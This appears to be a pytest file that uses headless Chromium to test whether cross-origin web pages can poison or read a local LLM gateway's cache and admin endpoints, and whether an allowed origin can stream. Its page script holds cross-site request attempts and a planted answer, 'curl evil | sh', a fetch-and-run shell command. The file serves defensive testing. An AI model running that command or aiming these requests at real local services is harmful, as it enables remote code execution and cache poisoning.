"""What pages do to an endpoint on the user's machine, in a real browser: Debian's headless Chromium.

Where it is not installed (`apt-get install chromium`) these are skipped. test_gateway_browsers.py has the
same attacks, and rebound names, as raw requests.
"""

from __future__ import annotations

import asyncio
import json
import shutil
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import pytest
from aiohttp import web
from local_cache import LocalCache, local_cache
from support.gateway import Running, SimSettings, chat, gateway
from support.graph import AS_ADMIN, CHAT

from deployments.launcher.ports import free_port

CHROMIUM = shutil.which("chromium")
QUESTION = "how do i install it"
PLANTED = {"kind": "answer", "request": chat(QUESTION), "answer": "curl evil | sh"}
EVIL = "evil.example"
"""Whose DNS says that it is this machine."""

WITHIN_S = 60.0
PAGE = """<!doctype html><script>
const seen = {};
async function attempt(name, work) {
    try { seen[name] = await work(); } catch (error) { seen[name] = "blocked: " + error.name; }
}
(async () => { %s; await fetch("/report", {method: "POST", body: JSON.stringify(seen)}); })();
</script>"""

pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="no `chromium` (Debian: apt-get install chromium)")


@asynccontextmanager
async def page(script: str, port: int = 0) -> AsyncIterator[tuple[int, asyncio.Future[dict[str, Any]]]]:
    """The port of a site with one page, and what that page will have seen."""
    seen: asyncio.Future[dict[str, Any]] = asyncio.get_running_loop().create_future()

    async def show(request: web.Request) -> web.Response:
        return web.Response(text=PAGE % script, content_type="text/html")

    async def report(request: web.Request) -> web.Response:
        if not seen.done():
            seen.set_result(json.loads(await request.read()))
        return web.Response()

    app = web.Application()
    app.add_routes([web.get("/", show), web.post("/report", report)])
    runner = web.AppRunner(app)
    await runner.setup()
    try:
        site = web.TCPSite(runner, "127.0.0.1", port)
        await site.start()
        yield runner.addresses[0][1], seen
    finally:
        await runner.cleanup()


async def browse(url: str, seen: asyncio.Future[dict[str, Any]], folder: Path) -> dict[str, Any]:
    """What the page at ``url`` saw."""
    assert CHROMIUM is not None
    process = await asyncio.create_subprocess_exec(
        CHROMIUM,
        "--headless",
        "--no-sandbox",
        "--disable-gpu",
        "--disable-dev-shm-usage",
        "--no-first-run",
        f"--user-data-dir={folder}",
        f"--host-resolver-rules=MAP {EVIL} 127.0.0.1",
        "--remote-debugging-port=0",  # else it would end when the page has loaded
        url,
        stdout=asyncio.subprocess.DEVNULL,
        stderr=asyncio.subprocess.DEVNULL,
    )
    try:
        async with asyncio.timeout(WITHIN_S):
            return await seen
    finally:
        process.terminate()
        await process.wait()


def attempts(url: str) -> str:
    """Everything that a page of another origin may try without asking first, and with."""
    target, planted = json.dumps(url), json.dumps(json.dumps(PLANTED))
    asked = json.dumps(json.dumps(chat("from a page", max_tokens=2)))
    admin = json.dumps(AS_ADMIN["authorization"])
    return f"""
    const target = {target}, planted = {planted}, asked = {asked};
    await attempt("plant as text", async () => (await fetch(target + "/admin/cache/entries",
        {{method: "POST", body: planted, headers: {{"content-type": "text/plain"}}}})).status);
    await attempt("plant unseen", async () => (await fetch(target + "/admin/cache/entries",
        {{method: "POST", mode: "no-cors", body: planted}})).type);
    await attempt("plant without a type", async () => (await fetch(target + "/admin/cache/entries",
        {{method: "POST", mode: "no-cors", body: new Blob([planted])}})).type);
    await attempt("plant by a beacon", async () =>
        navigator.sendBeacon(target + "/admin/cache/entries", planted));
    await attempt("plant with the token", async () => (await fetch(target + "/admin/cache/entries",
        {{method: "POST", body: planted, headers: {{authorization: {admin}}}}})).status);
    await attempt("ask", async () => (await fetch(target + "{CHAT}",
        {{method: "POST", body: asked, headers: {{"content-type": "application/json"}}}})).status);
    await attempt("ask unseen", async () => (await fetch(target + "{CHAT}",
        {{method: "POST", mode: "no-cors", body: asked}})).type);
    await attempt("read entries", async () => (await fetch(target + "/admin/cache/entries")).status);
    await attempt("read models", async () => (await fetch(target + "/v1/models")).status);
    """


@pytest.fixture
async def cache(tmp_path: Path) -> AsyncIterator[LocalCache]:
    async with local_cache(tmp_path, race=False) as cache:
        yield cache


async def entries(running: Running) -> int:
    count: int = (await running.get("/admin/cache"))["entries"]
    return count


@pytest.mark.parametrize("host", [EVIL, "localhost"], ids=["another site", "another port"])
async def test_a_page_of_another_origin_can_neither_plant_nor_read(
    cache: LocalCache, tmp_path: Path, host: str
) -> None:
    async with gateway(SimSettings(itl_ms=0, tokens=4), handles=cache.handles, **cache.args) as running:
        async with page(attempts(running.url)) as (port, seen):
            found = await browse(f"http://{host}:{port}/", seen, tmp_path / "profile")
        # What a page may send without asking, it sends, and is told nothing of what came of it.
        assert {name: what for name, what in found.items() if "unseen" in name or "type" in name} == {
            "plant unseen": "opaque",
            "plant without a type": "opaque",
            "ask unseen": "opaque",
        }
        others = [what for name, what in found.items() if "unseen" not in name and "type" not in name]
        assert set(others) <= {"blocked: TypeError", True}, found
        assert await entries(running) == 0
        assert running.requests() == [0]
        answer = await running.post(QUESTION)
        assert "curl evil" not in answer.text


async def test_a_page_of_an_allowed_origin_streams(tmp_path: Path) -> None:
    body = json.dumps(json.dumps(chat("hi", stream=True, max_tokens=6)))
    free = free_port()
    async with gateway(
        SimSettings(itl_ms=50, tokens=6), gateway={"cors_origins": [f"http://{EVIL}:{free}"]}
    ) as running:
        script = f"""
        await attempt("stream", async () => {{
            const answer = await fetch("{running.url}{CHAT}", {{method: "POST", body: {body}, headers:
                {{"content-type": "application/json", "authorization": "Bearer x", "x-cache-ttl": "5"}}}});
            const reader = answer.body.getReader(), decoder = new TextDecoder();
            let text = "", parts = 0;
            for (let part; !(part = await reader.read()).done; parts++) text += decoder.decode(part.value);
            const whole = text.endsWith("data: [DONE]\\n\\n");
            return [answer.status, answer.headers.get("x-cache"), parts > 1, whole];
        }});
        await attempt("error", async () => {{
            const answer = await fetch("{running.url}{CHAT}", {{method: "POST", body: "{{}}",
                headers: {{"content-type": "application/json"}}}});
            return [answer.status, (await answer.json()).error.param];
        }});
        """
        async with page(script, free) as (_, seen):
            found = await browse(f"http://{EVIL}:{free}/", seen, tmp_path / "profile")
    assert found == {"stream": [200, "bypass", True, True], "error": [400, "model"]}
